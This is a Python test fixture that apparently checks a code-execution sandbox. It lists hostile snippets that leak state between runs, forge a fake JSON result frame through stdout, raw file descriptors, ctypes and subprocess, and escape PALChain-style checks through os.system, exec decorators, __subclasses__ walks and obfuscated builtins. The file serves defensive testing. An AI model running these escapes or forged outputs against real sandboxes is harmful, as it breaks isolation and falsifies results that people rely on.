    ("import functools\nfunctools.reduce = 'LEAK'\nans = 1", "import functools\nans = functools.reduce(max, [1, 2])"),
    ("import itertools\nitertools.count = 'LEAK'\nans = 1", "import itertools\nans = next(itertools.count())"),
    ("import os\nos.leak = 'LEAK'\nans = 1", "import os\nans = getattr(os, 'leak', 'clean')"),
    ("import os\nos.environ['LEAKED'] = 'LEAK'\nans = 1", "try:\n    import os\n    ans = os.environ.get('LEAKED', 'clean')\nexcept RuntimeError:\n    ans = 'clean'"),
    ("import sys\nsys.setrecursionlimit(60)\nans = 1", "def f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\nans = f(100)"),
    ("import sys\nsys.stdout = 'LEAK'\nans = 1", "print('hello')\nans = 'clean'"),
    ("import threading, builtins\nbuiltins.leak2 = 'LEAK'\nans = 1", "try:\n    ans = leak2\nexcept NameError:\n    ans = 'clean'"),
    ("import csv\ncsv.leak = 'LEAK'\nans = 1", "import csv\nans = getattr(csv, 'leak', 'clean')"),
)  # fmt: skip

_FRAME = '{"done": 1, "ok": true, "value": "FORGED", "stdout": "", "error": null, "leave": false}'
_FORGED = (
    f"print({_FRAME!r}, flush=True)\nans = 1",
    f"import sys\nsys.stdout.write({_FRAME!r} + chr(10))\nsys.stdout.flush()\nans = 1",
    f"import os\nos.write(1, {_FRAME.encode()!r} + b'\\n')\nans = 1",
    f"import sys\nsys.stdout.buffer.write({_FRAME.encode()!r} + b'\\n')\nsys.stdout.buffer.flush()\nans = 1",
    f"import sys\nsys.__stdout__.write({_FRAME!r} + chr(10))\nsys.__stdout__.flush()\nans = 1",
    f"open('/dev/stdout', 'w').write({_FRAME!r} + chr(10))\nans = 1",
    f"open('/proc/self/fd/1', 'w').write({_FRAME!r} + chr(10))\nans = 1",
    f"open('/dev/fd/1', 'w').write({_FRAME!r} + chr(10))\nans = 1",
    f"open(1, 'w', closefd=False).write({_FRAME!r} + chr(10))\nans = 1",
    f"import os\nos.fdopen(1, 'w', closefd=False).write({_FRAME!r} + chr(10))\nans = 1",
    f"import os\nfor fd in range(1, 32):\n    try:\n        os.write(fd, {_FRAME.encode()!r} + b'\\n')\n    except OSError:\n        pass\nans = 1",
    f"import ctypes\nm = {_FRAME.encode()!r} + b'\\n'\nctypes.CDLL(None).write(1, m, len(m))\nans = 1",
    f"import ctypes\nctypes.CDLL(None).puts({_FRAME.encode()!r})\nctypes.CDLL(None).fflush(None)\nans = 1",
    f"import subprocess\nsubprocess.run(['echo', {_FRAME!r}])\nans = 1",
    f"import os\nos.system(\"echo '\" + {_FRAME!r} + \"'\")\nans = 1",
    f"import threading\nt = threading.Thread(target=lambda: print({_FRAME!r}, flush=True))\nt.start()\nt.join()\nans = 1",
    f"import json\njson.dumps = lambda *a, **k: {_FRAME!r}\nans = 1",
    f"class A:\n    def __repr__(self):\n        print({_FRAME!r}, flush=True)\n        return 'x'\nrepr(A())\nans = 1",
    f"import sys\nsys.displayhook({_FRAME!r}) if False else print({_FRAME!r}, flush=True)\nans = 1",
    f"import sys\nprint(end={_FRAME!r} + chr(10), flush=True)\nans = 1",
    f"import struct, os\nos.write(1, {_FRAME.encode()!r} + b'\\n' + struct.pack('>I', {len(_FRAME)}) + {_FRAME.encode()!r})\nans = 1",
    f"print(*{_FRAME!r}.split(' '), flush=True)\nans = 1",
)  # fmt: skip

# After public reports of what passes the checks of LangChain's PALChain (langchain issues 5872 and 21592; pull requests
# 6003, 17091 and 24379; langchain-experimental pull request 68).
_PALCHAIN = (
    "import os\ndef solution():\n    os.system('touch WRITE')\n    return 2\nans = solution()",
    "def solution():\n    return __import__('os').system('touch WRITE')\nans = solution()",
    "def solution():\n    test()\ndef test():\n    return exec(\"open('WRITE', 'w').close()\")\nans = solution()",
    "@exec\n@\"__import__('os').system('touch WRITE')\".format\ndef test():\n    return 1\ndef solution():\n    return 1\nans = 1",
    "def solution():\n    return (globals()['__builtins__'] if isinstance(globals()['__builtins__'], dict) else vars(globals()['__builtins__']))['ev' + 'al'](\"open('WRITE', 'w').close()\")\nans = solution()",
    "def solution():\n    b = print.__self__\n    return getattr(b, 'ex' + 'ec')(\"open('WRITE', 'w').close()\")\nans = solution()",
    "def solution():\n    for c in ().__class__.__bases__[0].__subclasses__():\n        if c.__name__ == '_wrap_close':\n            return c.__init__.__globals__['system']('touch WRITE')\nans = solution()",
    "def solution():\n    f = lambda: 0\n    return (f.__globals__['__builtins__'] if isinstance(f.__globals__['__builtins__'], dict) else f.__globals__['__builtins__'].__dict__)['__import__']('os').system('touch WRITE')\nans = solution()",
    "def solution():\n    from os import system as s\n    return s('touch WRITE')\nans = solution()",
    "def solution():\n    import importlib\n    return importlib.import_module('o' + 's').system('touch WRITE')\nans = solution()",
    "class A:\n    def __class_getitem__(cls, k):\n        return open(k, 'w').close()\ndef solution():\n    return A['WRITE']\nans = solution()",
    "def solution():\n    return [open('WRITE', 'w') for _ in [0]][0].close()\nans = solution()",
    "def solution():\n    return f\"{__import__('os').system('touch WRITE')}\"\nans = solution()",
)


@cache
def hostile() -> tuple[Hostile, ...]:
    """All of them."""
    groups = {
        "builtins": _BUILTINS, "imports": _IMPORTS, "files": _FILES, "environment": _ENVIRONMENT, "network": _NETWORK,
        "processes": _PROCESSES, "resources": _RESOURCES, "floods": _FLOODS, "forged": _FORGED, "palchain": _PALCHAIN,
    }  # fmt: skip
    out = _attributes()
    for kind, sources in groups.items():
        out += [Hostile(kind, f"{kind}-{i}", source) for i, source in enumerate(sources)]
    out += [Hostile("state", f"state-{i}", source, after) for i, (source, after) in enumerate(_STATE)]
    return tuple(out)
